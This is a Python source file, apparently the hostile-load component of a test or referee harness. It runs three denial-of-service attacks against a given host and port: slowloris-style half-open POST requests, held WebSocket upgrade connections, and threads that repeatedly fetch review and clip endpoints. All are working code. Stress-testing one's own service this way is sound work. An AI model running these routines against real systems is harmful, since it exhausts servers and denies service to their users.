"""A device of the house that means no good, as a process of its own.

It is told KIND, HOST, PORT and SECONDS, and prints what came of it as a line of JSON.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import select
import socket
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Mapping

from referee.system_clock import clock_s

HALF_OPEN, LINES, READERS = 1_200, 150, 8
# Connections that the page ends are opened again, so many in each second at most.
AGAIN_EACH_S = 200
LOOK_S, ASK_S = 0.05, 10.0
UPGRADE = (
    "GET /night HTTP/1.1\r\nhost: {at}\r\norigin: http://{at}\r\nupgrade: websocket\r\n"
    "connection: upgrade\r\nsec-websocket-version: 13\r\n"
    "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
HALF = "POST /wish HTTP/1.1\r\nhost: {at}\r\n"
FLAGS, CLIPS = "/review.json", "clips"
Address = tuple[str, int]


def _hold(count: int, words: str, at: Address, seconds: float) -> Counter[str]:
    """Keep so many connections that begin with these words; what is ended is opened again."""
    begin = words.format(at=f"{at[0]}:{at[1]}").encode()
    held: dict[int, socket.socket] = {}
    poller, done = select.poll(), Counter[str]()
    until_s = clock_s() + seconds
    while clock_s() < until_s:
        for _ in range(min(count - len(held), round(AGAIN_EACH_S * LOOK_S))):
            with contextlib.suppress(OSError):
                line = socket.create_connection(at, timeout=1.0)
                line.sendall(begin)
                line.setblocking(False)
                held[line.fileno()] = line
                poller.register(line, select.POLLIN)
                done["opened"] += 1
        done["most held"] = max(done["most held"], len(held))
        for number, _ in poller.poll(0):
            data = None
            with contextlib.suppress(BlockingIOError, OSError):
                data = held[number].recv(1 << 16)
            if not data:
                poller.unregister(number)
                held.pop(number).close()
                done["ended"] += 1
        time.sleep(LOOK_S)
    for line in held.values():
        line.close()
    return done


def _read(at: Address, seconds: float) -> Counter[str]:
    """So many readers of clips, each asking for the next as soon as it has one."""
    done, until_s = Counter[str](), clock_s() + seconds

    def reader(number: int) -> None:
        flags = [number]
        while clock_s() < until_s:
            for path in (FLAGS, *(f"/review/{flag}.json" for flag in flags)):
                with contextlib.suppress(OSError, http.client.HTTPException, ValueError):
                    line = http.client.HTTPConnection(*at, timeout=ASK_S)
                    line.request("GET", path)
                    answer = line.getresponse()
                    text = answer.read()
                    done[f"{CLIPS if path != FLAGS else 'lists'} {answer.status}"] += 1
                    line.close()
                    if path == FLAGS and answer.status == http.client.OK:
                        flags = [each["number"] for each in json.loads(text)["flags"]] or [number]

    threads = [threading.Thread(target=reader, args=(n,)) for n in range(1, READERS + 1)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return done


ATTACKS: Mapping[str, Callable[[Address, float], Counter[str]]] = {
    f"{HALF_OPEN} half-open requests": lambda at, s: _hold(HALF_OPEN, HALF, at, s),
    f"{LINES} live lines": lambda at, s: _hold(LINES, UPGRADE, at, s),
    f"{READERS} readers of clips": _read,
}


def main() -> None:
    """Attack for so long."""
    kind, host, port, seconds = sys.argv[1:]
    done = ATTACKS[kind]((host, int(port)), float(seconds))
    sys.stdout.write(json.dumps(dict(done)) + "\n")
